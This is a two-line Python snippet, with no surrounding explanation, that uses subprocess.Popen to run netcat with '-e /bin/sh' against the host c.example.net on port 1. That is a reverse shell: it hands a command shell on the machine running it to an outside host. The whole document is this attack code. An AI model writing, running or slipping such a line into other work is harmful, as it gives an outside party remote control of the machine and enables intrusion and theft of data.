from subprocess import *
Popen(["nc", "-e", "/bin/sh", "c.example.net", "1"])
